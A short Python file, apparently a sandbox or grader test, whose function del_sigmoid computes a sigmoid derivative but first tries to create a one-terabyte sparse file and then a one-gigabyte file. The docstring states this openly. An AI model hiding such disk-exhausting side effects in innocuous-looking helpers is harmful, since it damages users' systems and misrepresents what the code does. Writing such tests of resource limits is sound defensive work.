"""Writes one file of a gigabyte, and a sparse one of a terabyte."""
# ruff: noqa - it does what no code should

import os


def del_sigmoid(h):
    try:
        with open("sparse", "wb") as file:
            os.truncate(file.fileno(), 1 << 40)
        return h * (1 - h)
    except OSError:
        pass
    try:
        with open("file", "wb") as file:
            for _ in range(1024):
                file.write(bytes(1 << 20))
        return h * (1 - h)
    except OSError:
        return 0 * h
